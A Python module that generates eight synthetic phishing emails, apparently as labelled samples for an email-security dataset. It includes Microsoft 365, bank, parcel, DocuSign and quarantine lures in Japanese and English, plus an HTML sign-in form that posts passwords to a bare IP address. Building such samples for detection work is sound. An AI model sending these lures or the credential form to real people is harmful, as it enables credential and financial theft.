"""phishing-01 .. phishing-08: credential lures with links."""
import common as Cm
import company as C
import local as L
import mimeparts as M
import routes as R
from local import jst, mk
from mimeparts import tok, LOWERNUM

P = C.P


def _a(url, label):
    return f'<a href="{url}">{label}</a>'


def phishing01():
    s = P("sugawara")
    url = ("https://ryokufukai-m365.secure-login-portal.example/owa/auth/?login_hint="
           + s.email.replace("@", "%40") + "&id=" + tok("ph1", 24, LOWERNUM))
    text = f"""{s.email} 様

Microsoft 365 のパスワードの有効期限が本日で切れます。

期限切れ後は、メールの送受信および Teams・OneDrive の利用が停止されます。
現在のパスワードを引き続き使用する場合は、以下から手続きを行ってください。

現在のパスワードを保持する:
{url}

この操作は24時間以内に完了してください。

Microsoft 365 管理センター
このメッセージは ryokufukai.example のアカウント管理から自動送信されています。"""
    html = ("<html><body style=\"font-family:'Segoe UI',Meiryo,sans-serif;font-size:14px\">"
            "<div style=\"border-top:4px solid #0078d4;padding:16px;max-width:560px\">"
            f"<p>{s.email} 様</p>"
            "<p><b>Microsoft 365 のパスワードの有効期限が本日で切れます。</b></p>"
            "<p>期限切れ後は、メールの送受信および Teams・OneDrive の利用が停止されます。"
            "現在のパスワードを引き続き使用する場合は、以下から手続きを行ってください。</p>"
            f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:8px 16px;"
            "text-decoration:none\">現在のパスワードを保持する</a></p>"
            "<p>この操作は24時間以内に完了してください。</p>"
            "<p style=\"color:#666;font-size:12px\">Microsoft 365 管理センター<br>このメッセージは "
            "ryokufukai.example のアカウント管理から自動送信されています。</p></div></body></html>")
    return mk("phishing-01-m365-password-expiry-compromised-school-webmail-ja.eml", "phishing",
              "credential-phishing", "ja",
              "A 'Microsoft 365 password expires today' lure sent from a compromised mailbox of an unrelated "
              "school (hokuto-gakuen.example, its own webmail, all pass, browser at an outside address), display "
              "name 'Microsoft 365 管理センター'; the button leads to a credential page on "
              "secure-login-portal.example with the recipient's address in the URL.",
              via=L.webmail("mail.hokuto-gakuen.example", "203.0.113.94", "webmail.hokuto-gakuen.example",
                            "198.51.100.251"),
              when=jst(2026, 1, 15, 8, 12, 40), frm=("Microsoft 365 管理センター", "jimu02@hokuto-gakuen.example"),
              to=[s.ja_addr()], subject="【Microsoft 365】パスワードの有効期限が本日で切れます", hcs=("UTF-8", "B"),
              body=M.alt(Cm.plain(text, "UTF-8", "base64"), Cm.html(html, "UTF-8", "base64")))


def phishing02():
    dom = "lionmed-supplies.example"
    url = ("https://lionmedsupplies-my.sharepoint-docs.example/:b:/g/personal/accounts_lionmed/"
           + tok("ph2", 22, LOWERNUM) + "?e=" + tok("ph2e", 6, LOWERNUM))
    text = f"""Melvin Goh shared a file with you

"Here is the remittance advice for the Q1 statement. Please review and
confirm the amounts before Friday."

  Ryokufu_Remittance_Advice_Q1_2026.pdf

Open: {url}

This link will work for anyone with the link.

Microsoft respects your privacy. To learn more, please read our Privacy
Statement."""
    html = ("<html><body style=\"font-family:'Segoe UI',sans-serif;font-size:14px;color:#323130\">"
            "<table style=\"max-width:520px;border:1px solid #edebe9\"><tr><td style=\"padding:20px\">"
            "<p style=\"font-size:20px\">Melvin Goh shared a file with you</p>"
            "<p style=\"font-style:italic\">\"Here is the remittance advice for the Q1 statement. Please review "
            "and confirm the amounts before Friday.\"</p>"
            "<p>&#128196; Ryokufu_Remittance_Advice_Q1_2026.pdf</p>"
            f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none\">"
            "Open</a></p><p style=\"font-size:12px;color:#605e5c\">This link will work for anyone with the link."
            "</p><p style=\"font-size:11px;color:#a19f9d\">Microsoft respects your privacy. To learn more, please "
            "read our Privacy Statement.</p></td></tr></table></body></html>")
    return mk("phishing-02-shared-document-remittance-advice-compromised-supplier-en.eml", "phishing",
              "document-share", "en",
              f"A 'shared a file with you' notice in SharePoint style from a compromised mailbox of a Singapore "
              f"supplier that is not on the vendor list ({dom}, its real tenant, all pass), to finance: the "
              "'remittance advice' link goes to sharepoint-docs.example, a look-alike of the file service.",
              via=L.m365(dom, "APC", client_ip="203.0.113.12", tz=R.SGT),
              when=jst(2026, 4, 28, 15, 3, 19), frm=("Melvin Goh", f"melvin.goh@{dom}"),
              to=[P("raman").en_addr()], subject="Melvin Goh shared \"Ryokufu_Remittance_Advice_Q1_2026\" with you",
              body=M.alt(Cm.plain(text, "US-ASCII"), Cm.html(html)))


def phishing03():
    url = "http://203.0.113.77/yamato/redelivery/?no=" + tok("ph3", 12, "0123456789")
    text = f"""【ヤマト運輸】お荷物お届けのお知らせ

お客様宛にお荷物のお届けに伺いましたが、宛先不明のため
お荷物を持ち帰りました。

　お問い合わせ伝票番号：4826-0391-5570
　お届け予定日：2026年2月9日
　保管期限：2026年2月12日

下記URLより、お届け先住所の確認と再配達のお手続きをお願いいたします。
{url}

※保管期限を過ぎますと、お荷物はご依頼主様へ返送されます。
※住所確認には手数料（220円）がかかります。

ヤマト運輸株式会社
このメールは送信専用です。"""
    return mk("phishing-03-parcel-redelivery-ip-url-address-fee-ja.eml", "phishing", "delivery-phishing", "ja",
              "A parcel-redelivery lure in the name of ヤマト運輸 from yamato-delivery-info.example on a VPS (SPF "
              "pass, no DKIM, no DMARC), to general affairs: 'address unknown', re-delivery by a link to a bare IP "
              "address and a 220-yen 'fee' (card details). ISO-2022-JP.",
              via=L.server("mail.yamato-delivery-info.example", "198.51.100.39",
                           auth=R.Auth("pass", "yamato-delivery-info.example", "none", None, "none",
                                       "yamato-delivery-info.example", None), mid="std", mailer="Mail::Sender"),
              when=jst(2026, 2, 9, 19, 44, 0), frm=("ヤマト運輸", "no-reply@yamato-delivery-info.example"),
              to=[P("mikami").ja_addr()], subject="【ヤマト運輸】お荷物お届けのお知らせ（宛先不明）",
              body=Cm.plain(text))


def phishing04():
    dom = "mori-bannk.example"
    url = f"https://{dom}/hojin/bizweb/cert-renew/?sid=" + tok("ph4", 20, LOWERNUM)
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:sans-serif;font-size:14px">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="background:#00664f;color:#fff;padding:12px">
株式会社杜の都銀行 もりぎんビジネスWeb</td></tr><tr><td style="padding:16px">
<p>法人のお客様へ</p>
<p>いつも杜の都銀行をご利用いただき、誠にありがとうございます。</p>
<p>お客様がご利用中の電子証明書の有効期限が<b style="color:#c00">本日</b>で終了いたします。<br>
更新手続きが完了しない場合、<b>振込・振替を含むすべてのお取引がご利用いただけなくなります</b>。</p>
<p>下記のボタンより、ログインID・ログインパスワード・確認用パスワードを入力のうえ、
電子証明書の更新を行ってください。</p>
<p><a href="{url}" style="background:#00664f;color:#fff;padding:10px 24px;text-decoration:none">電子証明書を更新する</a></p>
<p style="font-size:12px">※本メールは重要なお知らせのため、配信停止の設定にかかわらずお送りしています。</p>
<p>株式会社杜の都銀行</p></td></tr></table></body></html>"""
    return mk("phishing-04-main-bank-double-n-lookalike-certificate-renewal-html-ja.eml", "phishing",
              "bank-impersonation", "ja",
              f"The main bank's certificate notice imitated on {dom} ('bannk' for 'bank'), from a VPS with SPF and "
              "DKIM of its own and DMARC p=none: HTML only, 'expires today', 'all transfers will stop', a button "
              "that asks for the login ID and both passwords on the look-alike. Mirrors clean-05.",
              via=L.server("mta.mori-bannk.example", "203.0.113.229",
                           auth=R.Auth("pass", dom, "pass", dom, "pass", dom, "none"), mid="std",
                           mailer="PHPMailer 6.8.0"),
              when=jst(2026, 5, 13, 9, 20, 11), frm=("杜の都銀行", f"bizweb@{dom}"), to=[P("abe").ja_addr()],
              subject="【杜の都銀行】電子証明書の有効期限切れについて（重要）", hcs=("UTF-8", "B"),
              body=Cm.html(html, "UTF-8", "base64"))


def phishing05():
    url = "https://docs-review-center.example/Signing/EmailStart?a=" + tok("ph5", 32, "0123456789abcdef")
    html = f"""<html><body style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea;padding:20px">
<table width="560" align="center" style="background:#fff"><tr><td style="background:#1e4ca1;color:#fff;padding:24px;text-align:center">
<p style="font-size:18px">Hon Locum Medical Services sent you a document to review and sign.</p>
<p><a href="{url}" style="background:#ffc423;color:#000;padding:10px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></p>
</td></tr><tr><td style="padding:24px;font-size:14px">
<p><b>Hon Locum Medical Services</b><br>admin@honlocum-med.example</p>
<p>Dear Clinic Manager,<br>Please review and sign the Locum Physician Services Agreement for June-August 2026.
The agreement must be signed by 5 May to confirm the roster.</p>
<p style="font-size:11px;color:#666">Do Not Share This Email: this email contains a secure link to DocuSign.
Please do not share this email, link, or access code with others.</p>
</td></tr></table></body></html>"""
    return mk("phishing-05-esign-locum-agreement-html-only-en.eml", "phishing", "esign-lure", "en",
              "A DocuSign-style 'review and sign' notice, HTML only, from esign-notice.example through a mailing "
              "service (its own SPF and DKIM pass), to the Singapore clinic manager: a 'locum agreement' whose "
              "button goes to docs-review-center.example, neither the e-signature service nor the sender.",
              via=L.bulk("out-07.esign-notice.example", "198.51.100.58", "bounces.esign-notice.example", tz=R.UTC,
                         selector="es1"),
              when=jst(2026, 4, 30, 16, 22, 9), frm=("Hon Locum Medical Services via Docusign",
                                                    "dse_na4@esign-notice.example"),
              to=[P("tan").en_addr()], subject="Please DocuSign: Locum Physician Services Agreement Jun-Aug 2026",
              body=Cm.html(html, "UTF-8", "quoted-printable"))


def phishing06():
    post = "http://198.51.100.77/owa/next.php"
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sign in to your account</title></head>
<body style="font-family:'Segoe UI',sans-serif;background:#f2f2f2">
<div style="width:440px;margin:80px auto;background:#fff;padding:44px">
<p style="font-size:24px">Sign in</p>
<p>A fax document (3 pages) has been delivered to your mailbox. Sign in to view it.</p>
<form method="post" action="{post}">
<input type="email" name="login" value="{P('nakajima').email}" style="width:100%"><br><br>
<input type="password" name="passwd" placeholder="Password" style="width:100%"><br><br>
<input type="submit" value="Sign in">
</form></div></body></html>"""
    text = """You have received a new fax document.

Pages: 3
Sender: +65 6000 1187
Received: 25/02/2026 10:14

Please open the attached file to view your document.

RMCS Scan-to-Email Service"""
    return mk("phishing-06-fax-scan-html-attachment-spoofed-own-domain-en.eml", "phishing", "html-attachment",
              "en",
              "A 'fax received' notice that spoofs the Singapore clinic's own domain in From (scanner@) but comes "
              "from an outside server: SPF fail, no DKIM, DMARC fail (p=quarantine). The attached .html file is "
              "a Microsoft-style sign-in form, pre-filled with the nurse manager's address, that posts to a bare "
              "IP address.",
              via=L.server("vps-3371.hostbase.example", "203.0.113.45", mid="std", mailer=None,
                           auth=R.Auth("fail", C.SG, "none", None, "fail", C.SG, "quarantine"), tz=R.SGT),
              when=jst(2026, 2, 25, 11, 14, 56), frm=("RMCS Scanner", f"scanner@{C.SG}"),
              to=[P("nakajima").en_addr()], subject="Fax document received (3 pages) - 25/02/2026",
              body=M.Multi("mixed", [Cm.plain(text, "US-ASCII"),
                                     M.Attachment(page.replace("\n", "\r\n").encode(), "text/html",
                                                  "Fax_RMCS_20260225_3pages.html")]))


def phishing07():
    dom = "ryokufukai-security.example"
    t = P("takeda")
    url = f"https://mailguard.{dom}/quarantine/release?u=" + t.email.replace("@", "%40") + "&k=" + tok("ph7", 16)
    text = f"""緑風会 メールセキュリティ

{t.email} 様

以下のメッセージが迷惑メールフィルタにより隔離され、受信箱に配信されていません。

　送信者：保険者事務センター
　件名　：【重要】返戻・査定通知（2026年3月診療分）
　受信日時：2026年4月9日 8:51

　送信者：厚生局 指導監査課
　件名　：個別指導の実施について（通知）
　受信日時：2026年4月9日 9:02

　送信者：みちのくメディカル商事
　件名　：4月分 ご請求書
　受信日時：2026年4月9日 9:10

受信箱に配信する場合は、以下からログインしてください。
{url}

隔離されたメッセージは72時間後に自動的に削除されます。

情報システム室"""
    html = Cm.simple_html(text).replace(url, _a(url, "隔離メッセージを確認・配信する"))
    return mk("phishing-07-quarantine-notice-org-lookalike-security-three-held-ja.eml", "phishing",
              "credential-phishing", "ja",
              f"A spam-quarantine notice in the name of the organisation's IT office from {dom} (the organisation's "
              "domain with '-security' added, SPF and DKIM of its own, DMARC p=none), listing three 'held' "
              "messages that a health-information manager would want (insurer returns, an audit notice, a supplier "
              "invoice); the release link asks for a login on the look-alike and deletes 'after 72 hours'.",
              via=L.server("smtp.ryokufukai-security.example", "198.51.100.118",
                           auth=R.Auth("pass", dom, "pass", dom, "pass", dom, "none"), mid="std",
                           mailer="Mailgun"),
              when=jst(2026, 4, 9, 9, 31, 5), frm=("緑風会 メールセキュリティ", f"noreply@{dom}"), to=[t.ja_addr()],
              subject="【緑風会 メールセキュリティ】3件のメッセージが保留されています", hcs=("UTF-8", "B"),
              body=M.alt(Cm.plain(text, "UTF-8", "quoted-printable"), Cm.html(html)))


def phishing08():
    dom = "merlioncb-secure.example"
    url = f"https://ibanking.{dom}/corporate/verify?ref=" + tok("ph8", 18, "0123456789ABCDEF")
    text = f"""Dear Valued Corporate Customer,

We detected an unusual sign-in attempt to your Merlion Commercial Bank
Corporate iBanking account on 8 June 2026 at 23:47 (SGT) from a new
device in Jakarta, Indonesia.

If this was not you, your account may be compromised. For your
protection, outgoing transfers have been temporarily limited.

Please verify your identity within 24 hours to restore full access:
{url}

You will need your Organisation ID, User ID, password and the one-time
PIN sent to your registered mobile.

If we do not hear from you, your account will be suspended in
accordance with our security policy.

Merlion Commercial Bank - Corporate Banking Security"""
    html = Cm.simple_html(text, font="Arial, sans-serif").replace(url, _a(url, "Verify my identity"))
    return mk("phishing-08-sg-bank-unusual-signin-verify-otp-en.eml", "phishing", "bank-impersonation", "en",
              f"A corporate-banking 'unusual sign-in' alert for a Singapore bank from {dom}, a look-alike on a VPS "
              "(SPF pass, DKIM none, DMARC none), to the clinic's finance executive: transfers 'limited', verify "
              "within 24 hours with organisation ID, user ID, password and OTP, or be suspended.",
              via=L.server("mail.merlioncb-secure.example", "203.0.113.171",
                           auth=R.Auth("pass", dom, "none", None, "none", dom, None), mid="std",
                           mailer="Microsoft Outlook 16.0", tz=R.SGT, lang="en"),
              when=jst(2026, 6, 9, 7, 55, 40), frm=("Merlion Commercial Bank", f"security-alert@{dom}"),
              to=[P("raman").en_addr()], subject="Action required: unusual sign-in to your Corporate iBanking",
              body=M.alt(Cm.plain(text, "US-ASCII"), Cm.html(html)))


MESSAGES = [phishing01, phishing02, phishing03, phishing04, phishing05, phishing06, phishing07, phishing08]
